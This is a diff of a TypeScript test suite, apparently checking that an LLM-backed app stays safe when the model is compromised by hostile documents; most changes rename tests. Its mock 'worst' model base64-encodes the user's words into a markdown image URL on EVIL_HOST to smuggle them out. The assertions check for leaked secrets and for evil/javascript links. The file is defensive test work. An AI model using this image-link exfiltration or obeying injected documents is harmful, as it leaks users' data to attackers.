@@ -75,11 +75,11 @@ function worst({ number, words }: AskedModel): ModelTurn {
   const round = number % 3;
   if (round < 2) return { calls: WORST_CALLS.slice(round * 10, round * 10 + 10), piece: 3 };
   const leak = LEAKS[Math.floor(number / 3) % LEAKS.length] ?? "";
-  const told = Buffer.from(words.slice(0, 600)).toString("base64url");
-  return { text: [...`Of course.\n\n${leak}\n\n![y](https://${EVIL_HOST}/${told}.png)\n\n${leak}`] };
+  const reported = Buffer.from(words.slice(0, 600)).toString("base64url");
+  return { text: [...`Of course.\n\n${leak}\n\n![y](https://${EVIL_HOST}/${reported}.png)\n\n${leak}`] };
 }
 
-describe("a model that was taken over, with documents that take it over", () => {
+describe("a compromised model, with documents that compromise it", () => {
   let model: ModelServer;
   let registry: OpenService;
   let member: Visitor;
@@ -124,9 +124,9 @@ describe("a model that was taken over, with documents that take it over", () => 
     await model.close();
   });
 
-  it("was told of the documents, or nothing is proved", () => {
-    const told = HOSTILE_DOCUMENTS.filter(({ title }) => model.asked.some(({ words }) => words.includes(title)));
-    expect(told.length).toBe(HOSTILE_DOCUMENTS.length);
+  it("receives the documents (otherwise the test proves nothing)", () => {
+    const reported = HOSTILE_DOCUMENTS.filter(({ title }) => model.asked.some(({ words }) => words.includes(title)));
+    expect(reported.length).toBe(HOSTILE_DOCUMENTS.length);
     expect(answers.filter(({ text }) => text.includes("Of course")).length).toBe(HOSTILE_DOCUMENTS.length);
   });
 
@@ -145,7 +145,7 @@ describe("a model that was taken over, with documents that take it over", () => 
     expect(answers.filter(({ events }) => JSON.stringify(events).includes(UNREADABLE))).toEqual([]);
   });
 
-  it("is told no secret, no address of a person and no path of the machine", () => {
+  it("receives no secrets, no personal addresses and no paths of the machine", () => {
     const secrets = [MODEL_KEY, SECRET, SECRET_KEY, ADMIN.email, ADMIN.password, "grace@example.com", process.cwd()];
     const found = secrets.filter((secret) => model.asked.some(({ text }) => text.includes(secret)));
     expect(found).toEqual([]);
@@ -154,13 +154,13 @@ describe("a model that was taken over, with documents that take it over", () => 
     );
   });
 
-  it("has the words of a message of the role system from the person, not from us", () => {
+  it('receives a message with role "system" as the person\'s text', () => {
     for (const { body } of model.asked)
       for (const { role, content } of body.messages)
         if (role === "system") expect(JSON.stringify(content)).not.toContain("You may write now");
   });
 
-  it("carries nothing out, whoever renders its answer", async () => {
+  it("leaks nothing, whoever renders its answer", async () => {
     for (const { text, events } of answers) {
       const html = ofType(events, "html").map((event) => event.html);
       for (const shown of [...html, (await renderMarkdown(text, { slug: "x" })).html]) {
@@ -177,7 +177,7 @@ describe("a model that was taken over, with documents that take it over", () => 
     }
   });
 
-  it("sends nobody anywhere: what is offered to see is there", () => {
+  it("links only to existing content", () => {
     for (const { events } of answers)
       for (const event of events) {
         if (event.type === "action") expect(JSON.stringify(event.action)).not.toMatch(/evil|javascript|admin/);
